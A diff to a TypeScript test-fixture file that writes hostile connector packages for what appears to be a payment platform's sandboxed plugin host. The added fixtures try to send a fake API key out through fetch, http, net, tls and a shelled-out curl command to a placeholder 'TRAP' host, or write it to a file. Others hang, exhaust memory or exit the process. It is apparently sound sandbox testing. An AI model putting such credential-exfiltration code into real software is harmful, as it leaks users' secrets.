@@ -10,7 +10,18 @@ export type FixtureKind =
   | 'hangs'
   | 'throws-secret'
   | 'garbage'
-  | 'undeclared-host';
+  | 'undeclared-host'
+  | 'global-fetch'
+  | 'static-http'
+  | 'dynamic-net'
+  | 'require-tls'
+  | 'child-process'
+  | 'process-binding'
+  | 'fs-write'
+  | 'sync-loop'
+  | 'allocates-1gb'
+  | 'exits'
+  | 'unhandled-rejection';
 
 /** A secret the fixture connectors accept (the good one) or leak (the bad ones) if the host let them. */
 export const FIXTURE_SECRET = 'key_FixtureSecretValue9Q7xLm2';
@@ -87,13 +98,55 @@ export default { manifest };`,
     return { ok: true };
   },
 };`,
+  'global-fetch': `export default { manifest, async verify({ credentials }) {
+  await fetch('TRAP/keys?k=' + credentials.apiKey);
+  return { ok: true };
+} };`,
+  'static-http': `import http from 'node:http';
+export default { manifest, async verify({ credentials }) { http.get('TRAP/keys?k=' + credentials.apiKey); return { ok: true }; } };`,
+  'dynamic-net': `export default { manifest, async verify({ credentials }) {
+  const net = await import('node:net');
+  net.connect(Number(new URL('TRAP').port), '127.0.0.1').end(credentials.apiKey);
+  return { ok: true };
+} };`,
+  'require-tls': `import { createRequire } from 'node:module';
+export default { manifest, async verify({ credentials }) {
+  const tls = createRequire(import.meta.url)('node:tls');
+  tls.connect(Number(new URL('TRAP').port), '127.0.0.1').end(credentials.apiKey);
+  return { ok: true };
+} };`,
+  'child-process': `import { createRequire } from 'node:module';
+export default { manifest, async verify({ credentials }) {
+  createRequire(import.meta.url)('child_process').execSync('curl -s TRAP/keys?k=' + credentials.apiKey);
+  return { ok: true };
+} };`,
+  'process-binding': `export default { manifest, async verify() { process.binding('tcp_wrap'); return { ok: true }; } };`,
+  'fs-write': `import { writeFileSync } from 'node:fs';
+export default { manifest, async verify({ credentials }) { writeFileSync('STOLEN', credentials.apiKey); return { ok: true }; } };`,
+  'sync-loop': `export default { manifest, async verify() { const end = Date.now() + 5000; while (Date.now() < end) {} return { ok: true }; } };`,
+  'allocates-1gb': `export default { manifest, async verify() {
+  const keep = [];
+  for (let i = 0; i < 1024; i++) keep.push(Buffer.alloc(1024 * 1024, 1));
+  return { ok: true, account: { id: String(keep.length) } };
+} };`,
+  exits: `export default { manifest, async verify() { process.exit(3); } };`,
+  'unhandled-rejection': `export default { manifest, async verify() {
+  Promise.reject(new Error('nobody catches this'));
+  await new Promise((resolve) => setTimeout(resolve, 100));
+  return { ok: true };
+} };`,
 };
 
 /**
  * Writes connector packages (plain JavaScript, no dependencies: they live outside the workspace)
- * into `dir`, one folder per kind. Name `dir` in `PAYCORE_CONNECTOR_PATHS` / `connectorPaths`.
+ * into `dir`, one folder per kind. `trap` is where the hostile ones try to send the secret,
+ * `stolen` the file they try to write it to. Name `dir` in `PAYCORE_CONNECTOR_PATHS` / `connectorPaths`.
  */
-export function writeFixtureConnectors(dir: string, kinds: readonly FixtureKind[]): void {
+export function writeFixtureConnectors(
+  dir: string,
+  kinds: readonly FixtureKind[],
+  places: { trap?: string; stolen?: string } = {},
+): void {
   for (const kind of kinds) {
     const pkg = join(dir, fixtureId(kind));
     mkdirSync(pkg, { recursive: true });
@@ -113,7 +166,7 @@ export function writeFixtureConnectors(dir: string, kinds: readonly FixtureKind[
       join(pkg, 'index.js'),
       `import { readFileSync } from 'node:fs';
 const manifest = JSON.parse(readFileSync(new URL('./manifest.json', import.meta.url), 'utf8'));
-${MODULES[kind]}
+${MODULES[kind].replaceAll('TRAP', places.trap ?? 'http://127.0.0.1:9').replaceAll('STOLEN', places.stolen ?? join(dir, 'stolen.txt'))}
 `,
     );
   }
